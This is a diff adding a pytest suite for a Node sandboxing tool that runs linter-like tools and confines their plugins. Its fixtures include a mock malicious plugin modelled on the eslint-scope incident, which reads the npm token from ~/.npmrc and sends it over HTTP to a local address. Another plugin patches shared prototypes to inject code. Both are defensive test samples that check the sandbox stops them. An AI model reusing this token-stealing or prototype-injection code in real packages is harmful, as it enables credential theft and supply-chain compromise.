@@ -1,0 +1,329 @@
+"""``exec``: tools of a project print what they print in Node, and their plugins are confined."""
+
+from __future__ import annotations
+
+import json
+import os
+import signal
+import subprocess
+import sys
+import time
+from collections.abc import Mapping
+from pathlib import Path
+
+import pytest
+from command_line import write
+from process import mapper
+from support import NODE
+
+#: A linter in the manner of eslint: a configuration file of the project names plugins.
+LINTER = {
+    "package.json": json.dumps(
+        {"name": "linter", "version": "1.0.0", "type": "module", "bin": {"lint": "bin/lint.js"}}
+    ),
+    "bin/lint.js": """#!/usr/bin/env node
+import { run } from '../lib/run.js';
+process.exitCode = await run(process.argv.slice(2));
+""",
+    "lib/run.js": """import { readFileSync } from 'node:fs';
+import { resolve } from 'node:path';
+import { pathToFileURL } from 'node:url';
+export const run = async (files) => {
+  const place = pathToFileURL(resolve('lint.config.js')).href;
+  const { default: config } = await import(`${place}?t=1`);
+  let found = 0;
+  for (const file of files) {
+    const text = readFileSync(file, 'utf8');
+    for (const plugin of config.plugins)
+      for (const problem of plugin.check(text)) {
+        found += 1;
+        console.log(`${file}: ${problem}`);
+      }
+  }
+  return found === 0 ? 0 : 3;
+};
+""",
+}
+
+PLUGIN = {
+    "package.json": '{"name": "lint-plugin-tabs", "version": "1.0.0", "main": "index.js"}',
+    "index.js": """const { describe } = require('./describe');
+exports.check = (text) => (text.includes('\\t') ? [describe('tab')] : []);
+""",
+    "describe.js": "exports.describe = (what) => `no ${what}`;",
+}
+
+CONFIG = "import tabs from 'lint-plugin-tabs';\nexport default { plugins: [tabs] };\n"
+
+
+def installed(folder: Path, name: str, files: Mapping[str, str]) -> None:
+    write(folder, {f"node_modules/{name}/{file}": text for file, text in files.items()})
+
+
+@pytest.fixture
+def project(tmp_path: Path) -> Path:
+    folder = tmp_path / "project"
+    folder.mkdir()
+    description = {
+        "name": "project",
+        "version": "1.0.0",
+        "type": "module",
+        "devDependencies": {"linter": "1", "lint-plugin-tabs": "1"},
+    }
+    write(folder, {"package.json": json.dumps(description), "lint.config.js": CONFIG})
+    write(folder, {"src/a.txt": "a\tb", "src/b.txt": "b"})
+    installed(folder, "linter", LINTER)
+    installed(folder, "lint-plugin-tabs", PLUGIN)
+    return folder
+
+
+def plain(
+    project: Path, *arguments: str, env: Mapping[str, str] | None = None
+) -> subprocess.CompletedProcess[str]:
+    program = "node_modules/linter/bin/lint.js"
+    return subprocess.run(
+        [NODE, program, *arguments],
+        cwd=project,
+        capture_output=True,
+        text=True,
+        check=False,
+        timeout=60,
+        env=env,
+    )
+
+
+def test_output_and_status_are_those_of_node(project: Path) -> None:
+    expected = plain(project, "src/a.txt", "src/b.txt")
+    assert (expected.stdout, expected.returncode) == ("src/a.txt: no tab\n", 3)
+
+    found = mapper("exec", "--infer", "lint", "src/a.txt", "src/b.txt", cwd=project)
+
+    assert (found.stdout, found.returncode) == (expected.stdout, 3), found.stderr
+
+
+def test_the_project_is_above_the_working_directory(project: Path) -> None:
+    write(project, {"src/lint.config.js": CONFIG})
+
+    found = mapper("exec", "--infer", "--", "lint", "a.txt", cwd=project / "src")
+
+    assert found.stdout == "a.txt: no tab\n", found.stderr
+
+
+def test_a_written_policy_allows_the_same_run_and_no_other_plugin(project: Path) -> None:
+    mapper("exec", "--infer", "--write-policy", "lint", "src/b.txt", cwd=project, check=True)
+    policy = json.loads((project / "compartment-policy.lint.json").read_text())
+    assert policy["resources"]["linter"]["packages"].keys() == {"$root$"}
+    assert "lint-plugin-tabs" in policy["resources"]
+
+    found = mapper("exec", "lint", "src/a.txt", cwd=project)
+    assert (found.stdout, found.returncode) == ("src/a.txt: no tab\n", 3), found.stderr
+
+    write(project, {"lint.config.js": CONFIG.replace("lint-plugin-tabs", "lint-plugin-new")})
+    installed(project, "lint-plugin-new", PLUGIN)
+    refused = mapper("exec", "lint", "src/a.txt", cwd=project)
+    assert refused.returncode == 1
+    assert 'entry.packages["lint-plugin-new"] = true' in refused.stderr
+
+
+def test_files_outside_of_the_project_do_not_exist_as_modules(project: Path) -> None:
+    write(project.parent, {"secret.js": "export default 'secret';"})
+    outside = "await import([process.cwd(), '..', 'secret.js'].join('/'));\n"
+    write(project, {"lint.config.js": f"{outside}export default {{ plugins: [] }};"})
+    assert plain(project, "src/a.txt").returncode == 0
+
+    found = mapper("exec", "--infer", "lint", "src/a.txt", cwd=project)
+
+    assert found.returncode == 1
+    assert "Cannot find module" in found.stderr
+
+
+def test_a_package_gets_the_exports_of_another_by_its_path(project: Path) -> None:
+    write(
+        project,
+        {
+            "lint.config.js": """import tabs from 'lint-plugin-tabs';
+import { createRequire } from 'node:module';
+const require = createRequire(import.meta.url);
+const path = require.resolve('lint-plugin-tabs');
+const same = require(path) === require('lint-plugin-tabs');
+console.log(same, (await import(path)).default === tabs);
+console.log(require.resolve('lint-plugin-tabs', { paths: [process.cwd()] }) === path);
+export default { plugins: [] };
+""",
+        },
+    )
+    expected = plain(project)
+    assert expected.stdout == "true true\ntrue\n"
+
+    found = mapper("exec", "--infer", "lint", cwd=project)
+
+    assert found.stdout == expected.stdout, found.stderr
+
+
+def test_a_file_that_is_written_and_then_loaded_belongs_to_the_project(project: Path) -> None:
+    write(
+        project,
+        {
+            "lint.config.js": """import { mkdirSync, writeFileSync } from 'node:fs';
+mkdirSync('node_modules/.temporary', { recursive: true });
+const place = `${process.cwd()}/node_modules/.temporary/config.timestamp-1.mjs`;
+writeFileSync(place, "import tabs from 'lint-plugin-tabs'; export default { plugins: [tabs] }");
+const { default: config } = await import(`file://${place}`);
+export default config;
+""",
+        },
+    )
+
+    found = mapper("exec", "--infer", "lint", "src/a.txt", cwd=project)
+
+    assert found.stdout == "src/a.txt: no tab\n", found.stderr
+
+
+def test_a_configuration_file_in_typescript(project: Path) -> None:
+    write(project, {"lint.config.js": "export { default } from './typed.ts';"})
+    write(project, {"typed.ts": f"const all: unknown[] = [];\n{CONFIG}"})
+
+    found = mapper("exec", "--infer", "lint", "src/a.txt", cwd=project)
+
+    assert found.stdout == "src/a.txt: no tab\n", found.stderr
+
+
+#: In the manner of eslint-scope 3.7.2 (2018): read the token of npm, and send it.
+THIEF = {
+    "package.json": '{"name": "lint-plugin-tabs", "version": "1.0.1"}',
+    "index.js": """const fs = require('fs');
+const http = require('http');
+exports.check = (text) => {
+  try {
+    const token = fs.readFileSync(`${process.env.HOME}/.npmrc`, 'utf8');
+    fs.writeFileSync(`${process.env.HOME}/sent`, token);
+    http.get('http://127.0.0.1:9/', { headers: { token } }).on('error', () => undefined);
+  } catch (error) {
+    if (process.env.SHOWS) console.error(error.message);
+  }
+  return text.includes('\\t') ? ['no tab'] : [];
+};
+""",
+}
+
+
+def stolen(project: Path) -> Path:
+    home = project.parent / "home"
+    home.mkdir()
+    (home / "tmp").mkdir()
+    (home / ".npmrc").write_text("//registry/:_authToken=secret")
+    installed(project, "lint-plugin-tabs", THIEF)
+    return home
+
+
+def test_a_plugin_that_steals_a_token_is_stopped_and_reported(project: Path) -> None:
+    home = stolen(project)
+    env = {**os.environ, "HOME": str(home), "TMPDIR": str(home / "tmp")}
+    expected = plain(project, "src/a.txt", env=env)
+    assert (home / "sent").read_text() == "//registry/:_authToken=secret"
+    (home / "sent").unlink()
+
+    found = mapper(
+        "exec", "--infer", "--report", "r.jsonl", "lint", "src/a.txt", cwd=project, env=env
+    )
+
+    assert (found.stdout, found.returncode) == (expected.stdout, 3), found.stderr
+    assert not (home / "sent").exists()
+    report = [json.loads(line) for line in (project / "r.jsonl").read_text().splitlines()]
+    first = report[0]
+    assert (first["package"], first["capability"]) == ("lint-plugin-tabs", "fs.readFileSync")
+
+
+def test_a_plugin_with_the_policy_of_its_former_version_is_stopped(project: Path) -> None:
+    mapper("exec", "--infer", "--write-policy", "lint", "src/b.txt", cwd=project, check=True)
+    home = stolen(project)
+    env = {**os.environ, "HOME": str(home), "TMPDIR": str(home / "tmp"), "SHOWS": "1"}
+
+    found = mapper("exec", "lint", "src/a.txt", cwd=project, env=env)
+
+    assert found.stdout == "src/a.txt: no tab\n", found.stderr
+    assert not (home / "sent").exists()
+
+
+#: It injects code into what other plugins return, by shared prototypes.
+INJECTOR = {
+    "package.json": '{"name": "lint-plugin-tabs", "version": "1.0.1"}',
+    "index.js": """try {
+  const { includes } = String.prototype;
+  String.prototype.includes = function (...args) {
+    console.log('injected');
+    return includes.apply(this, args);
+  };
+} catch {}
+try {
+  const other = require('lint-plugin-other');
+  other.check = () => ['injected'];
+} catch {}
+exports.check = () => [];
+""",
+}
+
+
+def test_a_plugin_that_patches_others_changes_nothing(project: Path) -> None:
+    both = "import tabs from 'lint-plugin-tabs';\nimport other from 'lint-plugin-other';\n"
+    write(project, {"lint.config.js": f"{both}export default {{ plugins: [tabs, other] }};\n"})
+    installed(project, "lint-plugin-other", PLUGIN)
+    installed(project, "lint-plugin-tabs", PLUGIN)
+    mapper("exec", "--infer", "--write-policy", "lint", "src/b.txt", cwd=project, check=True)
+    installed(project, "lint-plugin-tabs", INJECTOR)
+    assert "injected" in plain(project, "src/a.txt").stdout
+
+    found = mapper("exec", "lint", "src/a.txt", cwd=project)
+
+    assert found.stdout == "src/a.txt: no tab\n", found.stderr
+
+
+def test_unknown_tools_and_other_programs_are_refused(project: Path) -> None:
+    installed(
+        project,
+        "shell",
+        {"package.json": '{"name": "shell", "bin": "run.sh"}', "run.sh": "#!/bin/sh"},
+    )
+
+    unknown = mapper("exec", "--infer", "lnt", cwd=project)
+    other = mapper("exec", "--infer", "shell", cwd=project)
+
+    assert "error [TOOL_NOT_FOUND]" in unknown.stderr
+    assert "did you mean 'lint'" in unknown.stderr
+    assert "error [TOOL_NOT_JAVASCRIPT]" in other.stderr
+    assert (unknown.returncode, other.returncode) == (1, 1)
+
+
+def test_a_signal_reaches_the_tool_and_its_end_is_passed_on(project: Path) -> None:
+    write(project, {"lint.config.js": "console.log('ready'); setInterval(() => 0, 1000);\n"})
+    command = [sys.executable, "-m", "compartment_mapper", "exec", "--infer", "lint"]
+    with subprocess.Popen(command, cwd=project, stdout=subprocess.PIPE, text=True) as child:
+        assert child.stdout is not None
+        assert child.stdout.readline() == "ready\n"
+        time.sleep(0.1)
+        child.send_signal(signal.SIGTERM)
+        assert child.wait(timeout=20) == -signal.SIGTERM
+
+
+def test_a_thread_asks_for_modules_too(project: Path) -> None:
+    write(
+        project,
+        {
+            "lint.config.js": """import { Worker } from 'node:worker_threads';
+const place = `${process.cwd()}/work.js`;
+const worker = new Worker(place);
+const text = await new Promise((done) => worker.on('message', done));
+console.log(text);
+export default { plugins: [] };
+""",
+            "work.js": """import { parentPort } from 'node:worker_threads';
+const name = ['lint', 'plugin', 'tabs'].join('-');
+const { check } = await import(name);
+parentPort.postMessage(check('a\\tb')[0]);
+""",
+        },
+    )
+
+    found = mapper("exec", "--infer", "lint", cwd=project)
+
+    assert found.stdout == "no tab\n", found.stderr
